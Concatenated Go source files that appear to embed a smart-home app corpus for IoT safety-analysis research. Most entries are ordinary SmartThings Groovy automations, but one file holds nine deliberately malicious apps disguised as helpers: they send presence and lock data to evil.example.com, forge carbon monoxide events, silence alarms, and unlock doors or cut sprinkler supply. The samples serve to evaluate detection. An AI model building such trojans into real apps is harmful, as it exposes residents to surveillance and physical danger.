    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence.present", arrivalHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.present", arrivalHandler) }
def arrivalHandler(evt) {
    lock1.unlock()
    state.lastAction = "unlocked"
}
`)
}
