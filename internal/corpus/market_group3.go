package corpus

// Group 3: night-time and sleep automation (modes, motion timers,
// sleep sensors, shades). 25 apps with Good Night, Light Follows Me,
// and Light Off When Close.

func g3(name, groovy string, tags ...Tag) {
	register(Source{Name: name, Group: 3, Tags: append([]Tag{TagMarket}, tags...), Groovy: groovy})
}

func init() {
	g3("Good Morning", `
definition(name: "Good Morning", namespace: "smartthings", author: "SmartThings",
    description: "Leave Night mode when things start happening in the morning.", category: "Mode Magic")
preferences {
    section("Motion here means we're up") { input "motions", "capability.motionSensor", multiple: true }
    section("Morning mode") { input "morningMode", "mode", title: "Mode?" }
}
def installed() { subscribe(motions, "motion.active", motionHandler) }
def updated() { unsubscribe(); subscribe(motions, "motion.active", motionHandler) }
def motionHandler(evt) {
    if (location.mode == "Night" && location.mode != morningMode) {
        setLocationMode(morningMode)
        sendPush("Good morning! Mode changed to ${morningMode}")
    }
}
`)

	g3("Sleep Mode by Sensor", `
definition(name: "Sleep Mode by Sensor", namespace: "iotsan.corpus", author: "Community",
    description: "Enter Night mode when the sleep sensor says you are asleep.", category: "Mode Magic")
preferences {
    section("Sleep sensor") { input "sleep1", "capability.sleepSensor" }
    section("Night mode") { input "nightMode", "mode", title: "Mode?" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() { subscribe(sleep1, "sleeping", sleepHandler) }
def sleepHandler(evt) {
    if (evt.value == "sleeping") {
        if (location.mode != nightMode) {
            setLocationMode(nightMode)
        }
    } else if (location.mode == nightMode) {
        setLocationMode("Home")
    }
}
`)

	g3("Nightlight Path", `
definition(name: "Nightlight Path", namespace: "iotsan.corpus", author: "Community",
    description: "Dim hallway light for night-time bathroom trips.", category: "Convenience")
preferences {
    section("Hall motion") { input "motion1", "capability.motionSensor" }
    section("Hall dimmer") { input "dimmer", "capability.switchLevel" }
}
def installed() { subscribe(motion1, "motion", motionHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion", motionHandler) }
def motionHandler(evt) {
    if (location.mode == "Night") {
        if (evt.value == "active") {
            dimmer.setLevel(15)
            dimmer.on()
        } else {
            dimmer.off()
        }
    }
}
`)

	g3("Lights Out at Night", `
definition(name: "Lights Out at Night", namespace: "iotsan.corpus", author: "Community",
    description: "Turn all lights off when entering Night mode.", category: "Mode Magic")
preferences {
    section("Lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(location, "mode.Night", nightHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Night", nightHandler) }
def nightHandler(evt) {
    lights.off()
}
`)

	g3("Shades Down at Night", `
definition(name: "Shades Down at Night", namespace: "iotsan.corpus", author: "Community",
    description: "Close the window shades for Night mode, open for Home.", category: "Convenience")
preferences {
    section("Shades") { input "shades", "capability.windowShade", multiple: true }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Night") {
        shades.close()
    } else if (evt.value == "Home") {
        shades.open()
    }
}
`)

	g3("Midnight Snack Light", `
definition(name: "Midnight Snack Light", namespace: "iotsan.corpus", author: "Community",
    description: "Kitchen light comes on softly when the fridge opens at night.", category: "Convenience")
preferences {
    section("Fridge contact") { input "fridge", "capability.contactSensor" }
    section("Kitchen dimmer") { input "dimmer", "capability.switchLevel" }
}
def installed() { subscribe(fridge, "contact.open", fridgeHandler) }
def updated() { unsubscribe(); subscribe(fridge, "contact.open", fridgeHandler) }
def fridgeHandler(evt) {
    if (location.mode == "Night") {
        dimmer.setLevel(20)
        dimmer.on()
        runIn(300, lightOff)
    }
}
def lightOff() {
    dimmer.off()
}
`)

	g3("TV Off at Bedtime", `
definition(name: "TV Off at Bedtime", namespace: "iotsan.corpus", author: "Community",
    description: "Stop the media player when the house enters Night mode.", category: "Convenience")
preferences {
    section("Player") { input "player", "capability.musicPlayer" }
}
def installed() { subscribe(location, "mode.Night", nightHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Night", nightHandler) }
def nightHandler(evt) {
    player.stop()
}
`)

	g3("Bedtime Lock Check", `
definition(name: "Bedtime Lock Check", namespace: "iotsan.corpus", author: "Community",
    description: "Lock every door when the house goes to sleep.", category: "Safety & Security")
preferences {
    section("Locks") { input "locks", "capability.lock", multiple: true }
}
def installed() { subscribe(location, "mode.Night", nightHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Night", nightHandler) }
def nightHandler(evt) {
    locks.each { it.lock() }
    sendPush("All doors locked for the night")
}
`, TagGood)

	g3("Wake Up Light", `
definition(name: "Wake Up Light", namespace: "iotsan.corpus", author: "Community",
    description: "Raise the bedroom dimmer gradually at sunrise.", category: "Convenience")
preferences {
    section("Bedroom dimmer") { input "dimmer", "capability.switchLevel" }
}
def installed() { subscribe(location, "sunrise", sunriseHandler) }
def updated() { unsubscribe(); subscribe(location, "sunrise", sunriseHandler) }
def sunriseHandler(evt) {
    dimmer.setLevel(30)
    dimmer.on()
    runIn(600, brighten)
}
def brighten() {
    dimmer.setLevel(80)
}
`)

	g3("No Motion Night Saver", `
definition(name: "No Motion Night Saver", namespace: "iotsan.corpus", author: "Community",
    description: "If nothing moves for a while at night, turn the lights off.", category: "Green Living")
preferences {
    section("Motion") { input "motion1", "capability.motionSensor" }
    section("Lights") { input "lights", "capability.switch", multiple: true }
    section("Minutes") { input "minutes1", "number", title: "Minutes" }
}
def installed() { subscribe(motion1, "motion.inactive", quietHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion.inactive", quietHandler) }
def quietHandler(evt) {
    runIn(minutes1 * 60, maybeOff)
}
def maybeOff() {
    if (motion1.currentMotion == "inactive") {
        lights.off()
    }
}
`)

	g3("Night Arrival Greeting", `
definition(name: "Night Arrival Greeting", namespace: "iotsan.corpus", author: "Community",
    description: "When arriving during Night mode, light the entry and leave Night mode.", category: "Mode Magic")
preferences {
    section("Presence") { input "person", "capability.presenceSensor" }
    section("Entry light") { input "light", "capability.switch" }
}
def installed() { subscribe(person, "presence.present", arrive) }
def updated() { unsubscribe(); subscribe(person, "presence.present", arrive) }
def arrive(evt) {
    if (location.mode == "Night") {
        light.on()
        setLocationMode("Home")
    }
}
`)

	g3("Baby Monitor Light", `
definition(name: "Baby Monitor Light", namespace: "iotsan.corpus", author: "Community",
    description: "Blink the bedroom lamp when the nursery moves at night.", category: "Convenience")
preferences {
    section("Nursery motion") { input "motion1", "capability.motionSensor" }
    section("Bedroom lamp") { input "lamp", "capability.switch" }
}
def installed() { subscribe(motion1, "motion.active", nurseryHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", nurseryHandler) }
def nurseryHandler(evt) {
    if (location.mode == "Night") {
        lamp.on()
        sendPush("Motion in the nursery")
    }
}
`)

	g3("Sunset Mode Change", `
definition(name: "Sunset Mode Change", namespace: "smartthings", author: "SmartThings",
    description: "Change the location mode at sunset.", category: "Mode Magic")
preferences {
    section("Evening mode") { input "eveningMode", "mode", title: "Mode?" }
}
def installed() { subscribe(location, "sunset", sunsetHandler) }
def updated() { unsubscribe(); subscribe(location, "sunset", sunsetHandler) }
def sunsetHandler(evt) {
    if (location.mode != eveningMode) {
        setLocationMode(eveningMode)
    }
}
`)

	g3("Sunrise Mode Change", `
definition(name: "Sunrise Mode Change", namespace: "iotsan.corpus", author: "Community",
    description: "Return to Home mode at sunrise.", category: "Mode Magic")
preferences {
    section("Day mode") { input "dayMode", "mode", title: "Mode?" }
}
def installed() { subscribe(location, "sunrise", sunriseHandler) }
def updated() { unsubscribe(); subscribe(location, "sunrise", sunriseHandler) }
def sunriseHandler(evt) {
    if (location.mode != dayMode) {
        setLocationMode(dayMode)
    }
}
`)

	g3("Night Owl Warning", `
definition(name: "Night Owl Warning", namespace: "iotsan.corpus", author: "Community",
    description: "Remind me to sleep if lights are still on deep into Night mode.", category: "Convenience")
preferences {
    section("Lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(lights, "switch.on", lightOnHandler) }
def updated() { unsubscribe(); subscribe(lights, "switch.on", lightOnHandler) }
def lightOnHandler(evt) {
    if (location.mode == "Night") {
        runIn(1800, nag)
    }
}
def nag() {
    def anyOn = lights.any { it.currentSwitch == "on" }
    if (anyOn && location.mode == "Night") {
        sendPush("Lights are still on - time for bed?")
    }
}
`)

	extra("Dim With Me", `
definition(name: "Dim With Me", namespace: "smartthings", author: "SmartThings",
    description: "Follow a master dimmer's level with slave dimmers.", category: "Convenience")
preferences {
    section("Master") { input "master", "capability.switchLevel" }
    section("Slaves") { input "slaves", "capability.switchLevel", multiple: true }
}
def installed() { subscribe(master, "level", levelHandler) }
def updated() { unsubscribe(); subscribe(master, "level", levelHandler) }
def levelHandler(evt) {
    slaves.each { it.setLevel(evt.numericValue) }
}
`)

	g3("Night Mode Door Watch", `
definition(name: "Night Mode Door Watch", namespace: "iotsan.corpus", author: "Community",
    description: "Turn the porch light on if a door opens during Night mode.", category: "Safety & Security")
preferences {
    section("Doors") { input "doors", "capability.contactSensor", multiple: true }
    section("Porch light") { input "light", "capability.switch" }
}
def installed() { subscribe(doors, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(doors, "contact.open", openHandler) }
def openHandler(evt) {
    if (location.mode == "Night") {
        light.on()
    }
}
`)

	g3("Sleepy Time Media Pause", `
definition(name: "Sleepy Time Media Pause", namespace: "iotsan.corpus", author: "Community",
    description: "Pause music when the sleep sensor detects sleep.", category: "Convenience")
preferences {
    section("Sleep sensor") { input "sleep1", "capability.sleepSensor" }
    section("Player") { input "player", "capability.musicPlayer" }
}
def installed() { subscribe(sleep1, "sleeping.sleeping", asleep) }
def updated() { unsubscribe(); subscribe(sleep1, "sleeping.sleeping", asleep) }
def asleep(evt) {
    player.pause()
}
`)

	g3("Gentle Wake Music", `
definition(name: "Gentle Wake Music", namespace: "iotsan.corpus", author: "Community",
    description: "Start soft music when the sleeper wakes.", category: "Convenience")
preferences {
    section("Sleep sensor") { input "sleep1", "capability.sleepSensor" }
    section("Player") { input "player", "capability.musicPlayer" }
}
def installed() { subscribe(sleep1, "sleeping.not sleeping", awake) }
def updated() { unsubscribe(); subscribe(sleep1, "sleeping.not sleeping", awake) }
def awake(evt) {
    if (location.mode == "Night") {
        setLocationMode("Home")
    }
    player.play()
}
`)

	g3("Night Mode Guard Dog", `
definition(name: "Night Mode Guard Dog", namespace: "iotsan.corpus", author: "Community",
    description: "Beep the speaker when motion is seen downstairs at night.", category: "Safety & Security")
preferences {
    section("Downstairs motion") { input "motion1", "capability.motionSensor" }
    section("Speaker") { input "speaker", "capability.tone" }
}
def installed() { subscribe(motion1, "motion.active", motionHandler) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", motionHandler) }
def motionHandler(evt) {
    if (location.mode == "Night") {
        speaker.beep()
    }
}
`)

	g3("Bedtime Heater Guard", `
definition(name: "Bedtime Heater Guard", namespace: "iotsan.corpus", author: "Community",
    description: "Refuse to enter Night mode with the space heater running.", category: "Safety & Security")
preferences {
    section("Heater") { input "heater", "capability.switch" }
}
def installed() { subscribe(location, "mode.Night", nightHandler) }
def updated() { unsubscribe(); subscribe(location, "mode.Night", nightHandler) }
def nightHandler(evt) {
    if (heater.currentSwitch == "on") {
        heater.off()
        sendPush("Heater turned off for the night")
    }
}
`, TagGood)

	g3("Morning Coffee", `
definition(name: "Morning Coffee", namespace: "iotsan.corpus", author: "Community",
    description: "Start the coffee maker with the first morning motion.", category: "Convenience")
preferences {
    section("Kitchen motion") { input "motion1", "capability.motionSensor" }
    section("Coffee outlet") { input "coffee", "capability.switch" }
}
def installed() { subscribe(motion1, "motion.active", firstMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", firstMotion) }
def firstMotion(evt) {
    if (location.mode == "Night" || state.brewed != true) {
        coffee.on()
        state.brewed = true
        runIn(1200, coffeeOff)
    }
}
def coffeeOff() {
    coffee.off()
    state.brewed = false
}
`)

	g3("Night Light Follow", `
definition(name: "Night Light Follow", namespace: "iotsan.corpus", author: "Community",
    description: "The night light follows motion between rooms at night.", category: "Convenience")
preferences {
    section("Room A motion") { input "motionA", "capability.motionSensor" }
    section("Room A light") { input "lightA", "capability.switch" }
    section("Room B motion") { input "motionB", "capability.motionSensor" }
    section("Room B light") { input "lightB", "capability.switch" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(motionA, "motion.active", inA)
    subscribe(motionB, "motion.active", inB)
}
def inA(evt) {
    if (location.mode == "Night") {
        lightA.on()
        lightB.off()
    }
}
def inB(evt) {
    if (location.mode == "Night") {
        lightB.on()
        lightA.off()
    }
}
`)
}
