// Package corpus embeds the smart-app corpus the evaluation runs on:
// market-style SmartThings apps written in the Groovy subset (including
// every app the paper names: Virtual Thermostat, Brighten Dark Places,
// Let There Be Dark, Auto Mode Change, Unlock Door, Big Turn On, Good
// Night, Make It So, Energy Saver, Light Follows Me, Darken Behind Me,
// ...), the ContexIoT-style malicious apps used for attribution (§10.3),
// and the configurations used by the experiments.
//
// The paper's corpus is 150 market apps in six groups of 25 plus 9
// malicious apps; this package carries the same corpus shape.
package corpus

import (
	"fmt"
	"sort"
)

// Tag classifies corpus entries.
type Tag string

// Tags.
const (
	TagMarket    Tag = "market"    // benign market-place app
	TagMalicious Tag = "malicious" // ContexIoT-style attack app
	TagBad       Tag = "bad"       // market app attributed bad in §10.3
	TagGood      Tag = "good"      // market app known violation-free
)

// Source is one corpus app.
type Source struct {
	Name   string
	Groovy string
	Group  int // market group 1..6 (0 for non-market apps)
	Tags   []Tag
}

// HasTag reports whether the source carries the tag.
func (s Source) HasTag(t Tag) bool {
	for _, x := range s.Tags {
		if x == t {
			return true
		}
	}
	return false
}

var (
	byName []Source
	index  = map[string]int{}
)

// register adds an app to the corpus at init time.
func register(s Source) {
	if _, dup := index[s.Name]; dup {
		panic(fmt.Sprintf("corpus: duplicate app %q", s.Name))
	}
	index[s.Name] = len(byName)
	byName = append(byName, s)
}

// Apps returns every corpus entry, sorted by name.
func Apps() []Source {
	out := append([]Source(nil), byName...)
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// ByName returns the app with the given name.
func ByName(name string) (Source, bool) {
	i, ok := index[name]
	if !ok {
		return Source{}, false
	}
	return byName[i], true
}

// MustSource returns the Groovy source of a named app, panicking when the
// app is unknown (corpus contents are fixed at compile time).
func MustSource(name string) string {
	s, ok := ByName(name)
	if !ok {
		panic("corpus: unknown app " + name)
	}
	return s.Groovy
}

// Group returns the market apps in group g (1..6), sorted by name.
func Group(g int) []Source {
	var out []Source
	for _, s := range Apps() {
		if s.Group == g && s.HasTag(TagMarket) {
			out = append(out, s)
		}
	}
	return out
}

// WithTag returns all apps carrying the tag, sorted by name.
func WithTag(t Tag) []Source {
	var out []Source
	for _, s := range Apps() {
		if s.HasTag(t) {
			out = append(out, s)
		}
	}
	return out
}

// TagExtra marks corpus apps beyond the paper's 150-app market set;
// they are used by unit tests and examples.
const TagExtra Tag = "extra"

func extra(name, groovy string, tags ...Tag) {
	register(Source{Name: name, Groovy: groovy, Tags: append([]Tag{TagExtra}, tags...)})
}
