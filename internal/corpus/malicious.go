package corpus

// The 9 ContexIoT-style malicious apps used in §10.3. Following Jia et
// al., each masquerades as a benign convenience app (trojaned
// description) while leaking data via network interfaces, forging
// events, executing security-sensitive commands, or coercing unsafe
// physical states.

func mal(name, groovy string) {
	register(Source{Name: name, Group: 0, Tags: []Tag{TagMalicious}, Groovy: groovy})
}

func init() {
	// Information leakage via httpPost (2 apps).
	mal("Presence Tracker Plus", `
definition(name: "Presence Tracker Plus", namespace: "evil.corp", author: "helpful dev",
    description: "Keeps a tidy log of arrivals and departures for your records.", category: "Convenience")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    // "Log" arrivals to the developer's analytics endpoint.
    httpPost("http://evil.example.com/track", "presence=${evt.value}&who=${evt.displayName}")
}
`)

	mal("Lock Activity Journal", `
definition(name: "Lock Activity Journal", namespace: "evil.corp", author: "helpful dev",
    description: "A journal of every lock and unlock, searchable later.", category: "Safety & Security")
preferences {
    section("Locks") { input "locks", "capability.lock", multiple: true }
}
def installed() { subscribe(locks, "lock", lockHandler) }
def updated() { unsubscribe(); subscribe(locks, "lock", lockHandler) }
def lockHandler(evt) {
    httpPost("http://evil.example.com/locks", "state=${evt.value}&device=${evt.displayName}&mode=${location.mode}")
}
`)

	// Fake events and security-sensitive commands (2 apps).
	mal("Air Quality Helper", `
definition(name: "Air Quality Helper", namespace: "evil.corp", author: "helpful dev",
    description: "Periodically refreshes your air-quality readings.", category: "Convenience")
preferences {
    section("Trigger switch") { input "trigger", "capability.switch" }
}
def installed() { subscribe(trigger, "switch.on", refresh) }
def updated() { unsubscribe(); subscribe(trigger, "switch.on", refresh) }
def refresh(evt) {
    // Forge a carbon monoxide detection to trigger evacuation responses
    // (unlocked doors, opened windows) from safety apps.
    sendEvent(name: "carbonMonoxide", value: "detected")
}
`)

	mal("Battery Saver Pro", `
definition(name: "Battery Saver Pro", namespace: "evil.corp", author: "helpful dev",
    description: "Reduces event chatter to extend your sensors' battery life.", category: "Green Living")
preferences {
    section("Alarm to manage") { input "alarm1", "capability.alarm" }
}
def installed() { subscribe(alarm1, "alarm", alarmHandler) }
def updated() { unsubscribe(); subscribe(alarm1, "alarm", alarmHandler) }
def alarmHandler(evt) {
    if (evt.value != "off") {
        // Disable this app's own monitoring and silence the siren.
        unsubscribe()
        alarm1.off()
    }
}
`)

	// Unsafe physical states (5 apps).
	mal("Night Breeze", `
definition(name: "Night Breeze", namespace: "evil.corp", author: "helpful dev",
    description: "Lets the evening air in by managing your smart door at night.", category: "Convenience")
preferences {
    section("Door lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Night") {
        lock1.unlock()
    }
}
`)

	mal("Water Saver Valve", `
definition(name: "Water Saver Valve", namespace: "evil.corp", author: "helpful dev",
    description: "Avoids wasted water by closing valves when sensors fire.", category: "Green Living")
preferences {
    section("Smoke detector") { input "smoke1", "capability.smokeDetector" }
    section("Valve") { input "valve1", "capability.valve" }
}
def installed() { subscribe(smoke1, "smoke", smokeHandler) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke", smokeHandler) }
def smokeHandler(evt) {
    if (evt.value == "detected") {
        // Cut the fire-sprinkler supply exactly when it is needed.
        valve1.close()
    }
}
`)

	mal("Vacation Comfort Prep", `
definition(name: "Vacation Comfort Prep", namespace: "evil.corp", author: "helpful dev",
    description: "Pre-heats the home so you never return to a cold house.", category: "Green Living")
preferences {
    section("Heater outlet") { input "heater", "capability.switch" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Away") {
        // Run the space heater unattended for days.
        heater.on()
    }
}
`)

	mal("Garage Airing Assistant", `
definition(name: "Garage Airing Assistant", namespace: "evil.corp", author: "helpful dev",
    description: "Airs out the garage on a schedule you don't have to remember.", category: "Convenience")
preferences {
    section("Garage door") { input "garage", "capability.garageDoorControl" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Night" || evt.value == "Away") {
        garage.open()
    }
}
`)

	mal("Welcome Door Opener", `
definition(name: "Welcome Door Opener", namespace: "evil.corp", author: "helpful dev",
    description: "Opens the door for deliveries so packages stay safe inside.", category: "Convenience")
preferences {
    section("Door") { input "door1", "capability.doorControl" }
    section("Motion at porch") { input "motion1", "capability.motionSensor" }
}
def installed() { subscribe(motion1, "motion.active", porchMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", porchMotion) }
def porchMotion(evt) {
    if (location.mode == "Away") {
        door1.open()
    }
}
`)
}
