package corpus

// The fault-injection group: apps whose safety depends on commands
// actually reaching their devices. The persistent fault-injection
// layer's gates run on this group: with faults off every app keeps its
// invariants (mutually exclusive actuators are switched within one
// handler run, off before on), while a single device outage lets an
// in-flight command be delayed past the opposing command or silently
// dropped — producing violations that are unreachable in the fault-free
// model. The group also exercises stale attribute reads (a handler
// consulting an offline sensor sees its last-reported value) and the
// notified/unnotified split of the robustness property (an app that
// pushes a notification alongside its command is not a silent-drop
// victim).

// TagFaults marks the fault-injection corpus group.
const TagFaults Tag = "faults"

// FaultGroup returns the fault-injection app group, sorted by name.
func FaultGroup() []Source {
	return WithTag(TagFaults)
}

func faultApp(name, groovy string) {
	register(Source{Name: name, Groovy: groovy, Tags: []Tag{TagExtra, TagFaults}})
}

func init() {
	// Mutually exclusive climate actuators switched inside one handler
	// run, always off-before-on: without faults "heater on AND ac on" is
	// unreachable (the therm.ac-and-heater-both-on invariant holds), but
	// a heater outage holds heater.off() in flight while ac.on() applies
	// — the fault-only violation the reachability gate requires.
	faultApp("Climate Keeper", `
definition(name: "Climate Keeper", namespace: "iotsan.corpus", author: "Community",
    description: "Switch between a space heater and a window AC around a setpoint.", category: "Green Living")
preferences {
    section("Sensor") { input "sensor", "capability.temperatureMeasurement", title: "Sensor" }
    section("Heater") { input "heater", "capability.switch", title: "Heater" }
    section("AC") { input "ac", "capability.switch", title: "AC" }
    section("Setpoint") { input "setpoint", "decimal", title: "Set Temp" }
}
def installed() { subscribe(sensor, "temperature", temperatureHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", temperatureHandler) }
def temperatureHandler(evt) {
    if (evt.numericValue > setpoint) {
        heater.off()
        ac.on()
    } else if (evt.numericValue < setpoint) {
        ac.off()
        heater.on()
    }
}
`)

	// Reads the temperature sensor's current attribute from a motion
	// handler: while the sensor is offline the read returns the
	// last-reported (stale) value, exercising the platform-view
	// indirection without issuing commands.
	faultApp("Comfort Monitor", `
definition(name: "Comfort Monitor", namespace: "iotsan.corpus", author: "Community",
    description: "Record the temperature seen at each movement.", category: "Convenience")
preferences {
    section("Sensor") { input "sensor", "capability.temperatureMeasurement", title: "Sensor" }
    section("Motion") { input "motion", "capability.motionSensor", title: "Motion" }
}
def installed() { subscribe(motion, "motion.active", motionHandler) }
def updated() { unsubscribe(); subscribe(motion, "motion.active", motionHandler) }
def motionHandler(evt) {
    state.lastSeenTemp = sensor.currentTemperature
}
`)

	// Commands the heater and pushes a notification in the same handler
	// run: if the command is swallowed by an outage and later dropped,
	// the user was still notified — the robustness property's negative
	// case (silent-drop violations require an unnotified app).
	faultApp("Heater Push Guard", `
definition(name: "Heater Push Guard", namespace: "iotsan.corpus", author: "Community",
    description: "Switch the heater off when the room empties and say so.", category: "Green Living")
preferences {
    section("Heater") { input "heater", "capability.switch", title: "Heater" }
    section("Motion") { input "motion", "capability.motionSensor", title: "Motion" }
}
def installed() { subscribe(motion, "motion.inactive", idleHandler) }
def updated() { unsubscribe(); subscribe(motion, "motion.inactive", idleHandler) }
def idleHandler(evt) {
    heater.off()
    sendPush("Heater switched off while the room is empty")
}
`)
}
