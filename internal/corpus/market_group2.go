package corpus

// Group 2: climate control (temperature, thermostats, heaters, AC,
// humidity, fans). 25 apps with Virtual Thermostat, Energy Saver, and
// It's Too Cold.

func g2(name, groovy string, tags ...Tag) {
	register(Source{Name: name, Group: 2, Tags: append([]Tag{TagMarket}, tags...), Groovy: groovy})
}

func init() {
	g2("It's Too Hot", `
definition(name: "It's Too Hot", namespace: "smartthings", author: "SmartThings",
    description: "Get a text when the temperature rises above your setting and turn on an AC.", category: "Convenience")
preferences {
    section("Monitor the temperature...") { input "temperatureSensor1", "capability.temperatureMeasurement" }
    section("When the temperature rises above...") { input "temperature1", "number", title: "Temperature?" }
    section("Text me at (optional)") { input "phone1", "phone", required: false }
    section("Turn on the AC (optional)") { input "acOutlet", "capability.switch", required: false }
}
def installed() { subscribe(temperatureSensor1, "temperature", temperatureHandler) }
def updated() { unsubscribe(); subscribe(temperatureSensor1, "temperature", temperatureHandler) }
def temperatureHandler(evt) {
    if (evt.numericValue >= temperature1) {
        if (phone1) {
            sendSms(phone1, "${temperatureSensor1.displayName} is too hot: ${evt.value}")
        }
        if (acOutlet) {
            acOutlet.on()
        }
    }
}
`)

	g2("Thermostat Mode Director", `
definition(name: "Thermostat Mode Director", namespace: "smartthings", author: "SmartThings",
    description: "Change the thermostat mode based on the outdoor temperature.", category: "Green Living")
preferences {
    section("Outdoor sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Thermostat") { input "thermostat", "capability.thermostat" }
    section("Heat below") { input "heatPoint", "number", title: "Degrees" }
    section("Cool above") { input "coolPoint", "number", title: "Degrees" }
}
def installed() { subscribe(sensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", tempHandler) }
def tempHandler(evt) {
    def t = evt.numericValue
    if (t < heatPoint) {
        thermostat.heat()
    } else if (t > coolPoint) {
        thermostat.cool()
    }
}
`)

	g2("Heater Minder", `
definition(name: "Heater Minder", namespace: "iotsan.corpus", author: "Community",
    description: "Keep the space heater running only while it is cold.", category: "Green Living")
preferences {
    section("Sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Heater outlet") { input "heater", "capability.switch" }
    section("Target") { input "target", "number", title: "Degrees" }
}
def installed() { subscribe(sensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.numericValue < target) {
        heater.on()
    } else {
        heater.off()
    }
}
`)

	g2("AC Minder", `
definition(name: "AC Minder", namespace: "iotsan.corpus", author: "Community",
    description: "Run the window AC only while it is hot.", category: "Green Living")
preferences {
    section("Sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("AC outlet") { input "ac", "capability.switch" }
    section("Target") { input "target", "number", title: "Degrees" }
}
def installed() { subscribe(sensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.numericValue > target) {
        ac.on()
    } else {
        ac.off()
    }
}
`)

	g2("Humidity Alert", `
definition(name: "Humidity Alert", namespace: "smartthings", author: "SmartThings",
    description: "Notify me when the humidity rises above a threshold.", category: "Convenience")
preferences {
    section("Humidity sensor") { input "humiditySensor1", "capability.relativeHumidityMeasurement" }
    section("Alert above") { input "humidity1", "number", title: "Percent?" }
    section("Phone") { input "phone1", "phone", required: false }
}
def installed() { subscribe(humiditySensor1, "humidity", humidityHandler) }
def updated() { unsubscribe(); subscribe(humiditySensor1, "humidity", humidityHandler) }
def humidityHandler(evt) {
    if (evt.numericValue > humidity1) {
        if (phone1) {
            sendSms(phone1, "Humidity is ${evt.value}%, above your ${humidity1}% alert level")
        } else {
            sendPush("Humidity is ${evt.value}%")
        }
    }
}
`, TagGood)

	g2("Bathroom Fan Control", `
definition(name: "Bathroom Fan Control", namespace: "iotsan.corpus", author: "Community",
    description: "Run the bathroom fan while humidity is high.", category: "Convenience")
preferences {
    section("Humidity sensor") { input "sensor", "capability.relativeHumidityMeasurement" }
    section("Fan outlet") { input "fan", "capability.switch" }
    section("Threshold") { input "threshold", "number", title: "Percent" }
}
def installed() { subscribe(sensor, "humidity", humidityHandler) }
def updated() { unsubscribe(); subscribe(sensor, "humidity", humidityHandler) }
def humidityHandler(evt) {
    if (evt.numericValue > threshold) {
        fan.on()
    } else {
        fan.off()
    }
}
`)

	g2("Window Fan When Cool", `
definition(name: "Window Fan When Cool", namespace: "iotsan.corpus", author: "Community",
    description: "Pull in cool evening air with a window fan instead of the AC.", category: "Green Living")
preferences {
    section("Outdoor sensor") { input "outdoor", "capability.temperatureMeasurement" }
    section("Window fan") { input "fan", "capability.switch" }
    section("AC outlet") { input "ac", "capability.switch", required: false }
    section("Run below") { input "below", "number", title: "Degrees" }
}
def installed() { subscribe(outdoor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(outdoor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.numericValue < below) {
        fan.on()
        if (ac) {
            ac.off()
        }
    } else {
        fan.off()
    }
}
`)

	g2("Freeze Guard", `
definition(name: "Freeze Guard", namespace: "iotsan.corpus", author: "Community",
    description: "Warn and heat when pipes risk freezing.", category: "Safety & Security")
preferences {
    section("Sensor") { input "sensor", "capability.temperatureMeasurement" }
    section("Heater") { input "heater", "capability.switch" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(sensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(sensor, "temperature", tempHandler) }
def tempHandler(evt) {
    if (evt.numericValue < 40) {
        heater.on()
        if (phone) {
            sendSms(phone, "Freeze risk: ${evt.value} degrees at ${sensor.displayName}")
        }
    }
}
`)

	g2("Thermostat Setpoint Sync", `
definition(name: "Thermostat Setpoint Sync", namespace: "iotsan.corpus", author: "Community",
    description: "Keep heating and cooling setpoints a safe span apart.", category: "Green Living")
preferences {
    section("Thermostat") { input "thermostat", "capability.thermostat" }
    section("Heat setpoint") { input "heatSp", "number", title: "Degrees" }
    section("Cool setpoint") { input "coolSp", "number", title: "Degrees" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    thermostat.setHeatingSetpoint(heatSp)
    thermostat.setCoolingSetpoint(coolSp)
}
`)

	g2("Away Thermostat Setback", `
